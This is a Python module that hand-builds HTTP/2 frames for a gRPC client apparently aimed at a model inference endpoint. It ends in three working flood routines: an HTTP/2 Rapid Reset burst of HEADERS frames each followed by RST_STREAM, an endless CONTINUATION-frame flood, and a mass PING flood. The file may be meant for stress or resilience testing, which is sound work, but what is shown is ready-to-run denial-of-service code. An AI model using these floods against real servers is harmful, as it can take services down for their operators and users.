"""HTTP/2 frame by frame (RFC 9113), as far as a client of gRPC that breaks its rules needs it."""

import socket
import struct

HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
DATA, END_STREAM, END_HEADERS = 0, 1, 4
INFER = "/inference.GRPCInferenceService/ModelInfer"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing or Huffman's code (RFC 7541, 6.2.2); both texts below 127 bytes."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def header(path=INFER, extra=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "h"),
              ("content-type", "application/grpc"), ("te", "trailers"), *extra]
    return b"".join(literal(*field) for field in fields)


def message(content, packed=False):
    return struct.pack(">BI", packed, len(content)) + content


def greet(address, timeout=20):
    """A connection with the preface and settings sent."""
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), timeout=timeout)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return connection


def until_closed(connection):
    """All frames that come until the other side ends: (kind, payload)."""
    data = b""
    try:
        while more := connection.recv(1 << 16):
            data += more
    except ConnectionResetError:
        pass
    frames = []
    while len(data) >= 9:
        size = int.from_bytes(data[:3], "big")
        frames.append((data[3], data[9:9 + size]))
        data = data[9 + size:]
    return frames


# Floods: each sends some on a connection, and returns the stream to go on with.


def rapid_reset(connection, stream):
    block = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, header()) + frame(RST_STREAM, 0, stream + 2 * i, bytes([0, 0, 0, 8]))
                     for i in range(100))
    connection.sendall(block)
    return stream + 200


def continuation(connection, stream):
    if stream == 1:
        connection.sendall(frame(HEADERS, 0, 1, header()))
    connection.sendall(frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x01b" * 600) * 20)
    return 3


def pings(connection, stream):
    connection.sendall(frame(PING, 0, 0, bytes(8)) * 1000)
    return stream
